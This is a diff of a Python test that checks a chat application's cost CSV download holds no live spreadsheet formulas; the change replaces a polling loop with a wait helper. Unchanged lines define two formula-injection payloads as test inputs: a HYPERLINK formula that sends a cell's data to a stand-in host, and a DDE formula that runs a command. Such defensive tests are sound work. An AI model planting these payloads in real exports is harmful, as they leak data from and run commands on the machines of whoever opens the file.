@@ -8,7 +8,6 @@ Every cell that a spreadsheet would read as a formula now starts with a quote.
 
 from __future__ import annotations
 
-import asyncio
 import csv
 import io
 import sqlite3
@@ -25,6 +24,7 @@ from memory.models import Thread
 from tests.app_process import ADMIN_PASSWORD
 from tests.chat_client import ChatSession, login_cookie, outputs
 from tests.db_fixtures import *  # noqa: F403 (fixtures)
+from tests.waiting import wait_until
 
 HOSTILE_MODEL = '=HYPERLINK("http://127.0.0.2/?leak="&A1,"Click for details")'
 HOSTILE_BACKEND = "@SUM(1+1)*cmd|' /C calc'!A0"
@@ -98,11 +98,14 @@ async def test_the_cost_download_holds_no_formula(make_app) -> None:
     await chat.send("hello")
     with sqlite3.connect(app.data_dir / "atelier.db") as db:
         user_id = db.execute("SELECT id FROM users WHERE identifier = 'admin'").fetchone()[0]
-    for _ in range(200):  # the thread row is written in the background
+
+    def thread_saved() -> bool:
         with sqlite3.connect(app.data_dir / "atelier.db") as db:
-            if db.execute("SELECT 1 FROM threads WHERE id = ?", (chat.thread_id,)).fetchone():
-                break
-        await asyncio.sleep(0.05)
+            query = "SELECT 1 FROM threads WHERE id = ?"
+            return db.execute(query, (chat.thread_id,)).fetchone() is not None
+
+    # The thread row is written in the background.
+    await wait_until(thread_saved, 10, "the conversation's thread row")
     engine = create_engine(f"sqlite+aiosqlite:///{app.data_dir / 'atelier.db'}")
     try:
         await _spend(Ledger(engine), user_id, chat.thread_id, "replicate", HOSTILE_MODEL)
